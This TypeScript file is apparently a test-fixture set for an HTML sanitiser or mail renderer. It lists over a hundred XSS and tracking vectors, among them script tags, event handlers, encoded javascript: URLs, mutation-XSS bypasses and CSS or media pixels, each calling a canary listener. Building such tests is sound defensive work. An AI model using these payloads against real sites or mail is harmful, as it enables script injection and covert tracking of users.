/** HTML that tries to run a script or to tell somebody that a mail was opened; written by ourselves after the classes of the OWASP list. */
export interface HtmlVector {
  name: string;
  html: string;
}

/** Stands for the address of whoever listens. */
export const canaryMark = '@@CANARY@@';

type Line = readonly [name: string, html: string];

const c = canaryMark;
/** The script of every vector: it asks the listener for something. */
const js = `new Image().src='${c}/js'`;
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const decimal = (text: string): string =>
  [...text].map((one) => `&#${one.codePointAt(0)};`).join('');
const hex = (text: string): string =>
  [...text].map((one) => `&#x${one.codePointAt(0)?.toString(16)};`).join('');
const long = (text: string): string =>
  [...text].map((one) => `&#0000${one.codePointAt(0)}`).join('');

const scripts: readonly Line[] = [
  ['a plain script', `<script>${js}</script>`],
  ['a script from elsewhere', `<script src="${c}/x.js"></script>`],
  ['a script without quotes', `<SCRIPT SRC=${c}/x.js></SCRIPT>`],
  ['a script with a slash in its name', `<script/x src="${c}/x.js"></script>`],
  ['a script as a module', `<script type="module">${js}</script>`],
  ['a script within a script', `<scr<script>ipt>${js}</scr</script>ipt>`],
  ['a script that is not closed', `<script>${js}`],
  ['a script after a null', `<scr\0ipt>${js}</scr\0ipt>`],
  ['a script after extra brackets', `<<script>${js}//<</script>`],
  ['a script after a comment that ends early', `<!--><script>${js}</script>-->`],
  [
    'a script in a conditional comment',
    `<!--[if gte IE 4]><script>${js}</script><![endif]--><![if true]><script>${js}</script><![endif]>`,
  ],
  ['a script in CDATA', `<![CDATA[><script>${js}</script>]]>`],
  ['a script in a processing instruction', `<?xml ?><?x ><script>${js}</script>?>`],
  ['a script with a line break in its tag', `<script\n\t>${js}</script\n>`],
  ['a script behind a title', `<title></title><script>${js}</script>`],
  ['a script behind a text area', `<textarea></textarea><script>${js}</script></textarea>`],
];

const events: readonly Line[] = [
  ['a picture that fails', `<img src="x:x" onerror="${js}">`],
  ['a picture without quotes', `<img src=x:x onerror=${js.replaceAll("'", '`')}>`],
  ['a picture with a slash', `<img/src="x:x"/onerror="${js}">`],
  ['a picture with upper case', `<IMG SRC="x:x" OnErRoR="${js}">`],
  ['an event between null and tab', `<img src="x:x" \0\tonerror\n=\n"${js}">`],
  ['quotes that do not match', `<img """><script>${js}</script>">`],
  ['an attribute that closes early', `<img alt="\`><script>${js}</script>">`],
  ['a body that loads', `<body onload="${js}">`],
  ['a second body with a page event', `<p>x<body onpageshow="${js}">`],
  ['a details that opens', `<details open ontoggle="${js}"><summary>x</summary></details>`],
  ['an input with focus', `<input autofocus onfocus="${js}">`],
  ['a select with focus', `<select autofocus onfocus="${js}"><option>x</option></select>`],
  ['an element with focus', `<div tabindex=1 autofocus onfocus="${js}">x</div>`],
  ['a marquee that starts', `<marquee onstart="${js}">x</marquee>`],
  [
    'an animation that begins',
    `<style>@keyframes a{from{top:0}to{top:1px}}</style><p style="animation:a 1s" onanimationstart="${js}">x</p>`,
  ],
  ['a sound that fails', `<audio src="x:x" onerror="${js}"></audio>`],
  ['a film with a failing source', `<video><source src="x:x" onerror="${js}"></video>`],
  ['an element that nobody knows', `<xss onpointerrawupdate="${js}" onclick="${js}">x</xss>`],
  [
    'an event with encoded letters',
    `<img src="x:x" onerror="${decimal(js)}"><img src="x:x" onerror="${hex(js)}">`,
  ],
  ['a style that ends a transition', `<p style="transition:all 1ms" ontransitionend="${js}">x</p>`],
];

const addresses: readonly Line[] = [
  ['a frame with a script address', `<iframe src="javascript:${js}"></iframe>`],
  ['a link with a script address', `<a href="javascript:${js}" id=go>x</a>`],
  ['a script address with a tab', `<iframe src="jav\tascript:${js}"></iframe>`],
  ['a script address with an encoded tab', `<iframe src="jav&#x09;ascript:${js}"></iframe>`],
  ['a script address with a line break', `<iframe src="jav&#x0A;ascript&#x0D;:${js}"></iframe>`],
  ['a script address after control characters', `<iframe src=" &#14; javascript:${js}"></iframe>`],
  [
    'a script address in decimal without semicolons',
    `<iframe src="${long(`javascript:${js}`)}"></iframe>`,
  ],
  ['a script address in hexadecimal', `<iframe src="${hex(`javascript:${js}`)}"></iframe>`],
  ['a script address by names', `<iframe src="javascript&colon;${js}"></iframe>`],
  ['a document as data', `<iframe src="data:text/html,<script>${js}</script>"></iframe>`],
  [
    'a document as base64',
    `<iframe src="data:text/html;base64,${base64(`<script>${js}</script>`)}"></iframe>`,
  ],
  [
    'a picture that is a document',
    `<img src="data:text/html;base64,${base64(`<script>${js}</script>`)}">`,
  ],
  [
    'a vector graphic as a picture',
    `<img src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${c}/svg.png"/><script>${js}</script></svg>`)}">`,
  ],
  [
    'a picture with a script address',
    `<img src="javascript:${js}"><img lowsrc="javascript:${js}">`,
  ],
  ['an old picture word', `<image src="${c}/image.png" onerror="${js}">`],
];

const foreign: readonly Line[] = [
  ['a vector graphic that loads', `<svg onload="${js}"></svg>`],
  ['a script in a vector graphic', `<svg><script>${js}</script></svg>`],
  ['a script address in a vector graphic', `<svg><script href="${c}/svg.js"/></svg>`],
  [
    'a picture in a vector graphic',
    `<svg><image href="${c}/a.png" xlink:href="${c}/b.png"/></svg>`,
  ],
  ['a use in a vector graphic', `<svg><use href="${c}/sprite.svg#a"/></svg>`],
  ['a foreign object', `<svg><foreignObject><img src="x:x" onerror="${js}"></foreignObject></svg>`],
  [
    'an animation that sets an address',
    `<svg><a><animate attributeName=href values="javascript:${js}"/><text>x</text></a></svg>`,
  ],
  ['a set of an event', `<svg><set attributeName="x" onbegin="${js}" to=1 /></svg>`],
  ['a style in a vector graphic', `<svg><style>@import "${c}/svg.css";</style></svg>`],
  [
    'a filter picture',
    `<svg width=9 height=9><filter id=f><feImage href="${c}/fe.png"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>`,
  ],
  [
    'a formula with an address',
    `<math><maction actiontype="statusline" xlink:href="javascript:${js}">x</maction></math>`,
  ],
  [
    'a mutation through a formula',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x:x onerror=${js.replaceAll("'", '`')}&gt;">`,
  ],
  [
    'a mutation through a form and a formula',
    `<form><math><mtext></form><form><mglyph><style></math><img src="x:x" onerror="${js}">`,
  ],
  [
    'a mutation through no-script',
    `<noscript><p title="</noscript><img src=x:x onerror=${js.replaceAll("'", '`')}>"></p></noscript>`,
  ],
  [
    'a mutation through a template',
    `<template><style></template><img src="x:x" onerror="${js}"></style></template>`,
  ],
  [
    'a mutation through a vector title',
    `<svg></p><style><a id="</style><img src=x:x onerror=${js.replaceAll("'", '`')}>"></a></style></svg>`,
  ],
  [
    'a mutation through xmp',
    `<xmp><p title="</xmp><img src=x:x onerror=${js.replaceAll("'", '`')}>"></p></xmp>`,
  ],
  [
    'a mutation through listing and plain text',
    `<listing>&lt;img src=x:x onerror=${js.replaceAll("'", '`')}&gt;</listing><plaintext><img src="x:x" onerror="${js}">`,
  ],
  [
    'encoded marks in an option',
    `<select><option>&lt;script&gt;${js}&lt;/script&gt;</option></select>`,
  ],
];

const documents: readonly Line[] = [
  [
    'a document in an attribute',
    `<iframe srcdoc="<script>${js.replaceAll('"', "'")}</script>"></iframe>`,
  ],
  ['a frame from elsewhere', `<iframe src="${c}/frame.html"></iframe>`],
  ['a set of frames', `<frameset><frame src="${c}/frame.html"></frameset>`],
  ['an object', `<object data="${c}/object.html"></object>`],
  ['an object of data', `<object data="data:text/html,<script>${js}</script>"></object>`],
  ['an embedded file', `<embed src="${c}/embed.html">`],
  ['an applet', `<applet code=x codebase="${c}/"></applet>`],
  [
    'a form that is sent',
    `<form action="${c}/form" id=f><input name=a value=b></form><input type=image form=f src="${c}/button.png">`,
  ],
  [
    'a button with an address',
    `<form><button formaction="javascript:${js}" autofocus>x</button></form>`,
  ],
  ['a refresh', `<meta http-equiv="refresh" content="0;url=${c}/refresh">`],
  [
    'a refresh to data',
    `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${js}</script>">`,
  ],
  ['another base', `<base href="${c}/"><img src="base.png">`],
  ['a manifest', `<link rel="manifest" href="${c}/manifest.json">`],
  ['a portal', `<portal src="${c}/portal"></portal><fencedframe src="${c}/f"></fencedframe>`],
  ['a link that reports', `<a href="x:x" ping="${c}/ping" id=go>x</a>`],
];

const tracking: readonly Line[] = [
  ['a pixel', `<img src="${c}/pixel.gif" width="1" height="1">`],
  ['a hidden pixel', `<img src="${c}/pixel.gif" style="display:none">`],
  ['a pixel without scheme', `<img src="//${c.replace('http://', '')}/pixel.gif" alt="">`],
  ['a pixel with backslashes', `<img src="http:\\\\${c}\\pixel.gif"><img src="${c}\\p.gif">`],
  ['pictures for several screens', `<img srcset="${c}/1x.png 1x, ${c}/2x.png 2x">`],
  [
    'a picture by source',
    `<picture><source srcset="${c}/source.webp" type="image/webp"><img src="x:x"></picture>`,
  ],
  ['a background of the body', `<body background="${c}/body.png">`],
  [
    'a background of a table',
    `<table background="${c}/t.png"><tr><td background="${c}/td.png">x</td></tr></table>`,
  ],
  ['a background by style', `<p style="background-image:url(${c}/bg.png)">x</p>`],
  ['a background in short', `<p style="background:#fff url('${c}/bg.png') no-repeat">x</p>`],
  ['a background with an escape', `<p style="background:u\\72l(${c}/bg.png)">x</p>`],
  [
    'a background with a comment',
    `<p style="background:url/**/(${c}/bg.png);background:/*x*/url(${c}/b2.png)">x</p>`,
  ],
  ['a background by set', `<p style='background:image-set("${c}/set.png" 1x)'>x</p>`],
  [
    'a list mark',
    `<ul style="list-style-image:url(${c}/li.png)"><li style="list-style:url(${c}/li2.png)">x</li></ul>`,
  ],
  ['a border picture', `<p style="border:3px solid;border-image:url(${c}/border.png) 3">x</p>`],
  ['a cursor', `<p style="cursor:url(${c}/cursor.png),auto;width:100vw;height:100vh">x</p>`],
  ['a generated content', `<style>p::before{content:url(${c}/content.png)}</style><p>x</p>`],
  ['a mask', `<p style="-webkit-mask-image:url(${c}/mask.png);mask:url(${c}/m2.svg#a)">x</p>`],
  ['a shape', `<p style="float:left;shape-outside:url(${c}/shape.png)">x</p>`],
  ['a variable', `<p style="--a:url(${c}/var.png);background:var(--a)">x</p>`],
  ['an expression', `<p style="width:expression(${js})">x</p>`],
  ['a binding', `<p style="-moz-binding:url(${c}/xbl.xml#x);behavior:url(${c}/x.htc)">x</p>`],
  ['an import', `<style>@import url("${c}/import.css");</style>`],
  ['an import in quotes', `<style>@import "${c}/import.css" screen;</style>`],
  ['an import with an escape', `<style>@\\69mport '${c}/import.css';</style>`],
  [
    'a font',
    `<style>@font-face{font-family:a;src:url(${c}/font.woff2)}p{font-family:a}</style><p>x</p>`,
  ],
  [
    'a namespace and a page',
    `<style>@namespace url(${c}/ns);@media all{body{background:url(${c}/m.png)}}</style>`,
  ],
  ['a style that ends early', `<style><!--</style><img src="${c}/early.png">--></style>`],
  ['a style sheet from elsewhere', `<link rel="stylesheet" href="${c}/style.css">`],
  [
    'a style sheet as data',
    `<link rel="stylesheet" href="data:text/css,body{background:url(${c}/d.png)}">`,
  ],
  ['a look-up of names ahead', `<link rel="dns-prefetch" href="//tracked.invalid">`],
  ['a connection ahead', `<link rel="preconnect" href="${c}">`],
  ['a load ahead', `<link rel="preload" as="image" href="${c}/preload.png">`],
  [
    'a page ahead',
    `<link rel="prefetch" href="${c}/prefetch"><link rel="prerender" href="${c}/prerender">`,
  ],
  ['a module ahead', `<link rel="modulepreload" href="${c}/m.js">`],
  ['an icon', `<link rel="icon" href="${c}/favicon.ico">`],
  ['a film', `<video src="${c}/film.mp4" poster="${c}/poster.png" autoplay></video>`],
  ['a sound', `<audio src="${c}/sound.mp3" preload autoplay></audio>`],
  ['subtitles', `<video><track default src="${c}/track.vtt"></video>`],
  ['a sound in the background', `<bgsound src="${c}/bg.wav">`],
  ['an old source', `<img dynsrc="${c}/dyn.avi" lowsrc="${c}/low.png" src="x:x">`],
  ['an input picture', `<input type="image" src="${c}/input.png">`],
  [
    'speculation rules',
    `<script type="speculationrules">{"prefetch":[{"urls":["${c}/spec"],"eagerness":"immediate"}]}</script>`,
  ],
  ['a content part that does not exist', `<img src="cid:missing@mail"><img src="cid:${c}/x.png">`],
  [
    'a name that pretends to be a part',
    `<img src="bild:../../../../x"><img src="${c}/cid.png#cid:a">`,
  ],
];

/** All of them; the names are unique. */
export const htmlVectors: readonly HtmlVector[] = [
  ...scripts,
  ...events,
  ...addresses,
  ...foreign,
  ...documents,
  ...tracking,
].map(([name, html]) => ({ name, html }));

/** The HTML of a vector whose listener has the origin given; requests name the vector. */
export const armed = (vector: HtmlVector, index: number, origin: string): string =>
  vector.html.replaceAll(canaryMark, `${origin}/v${index}`);
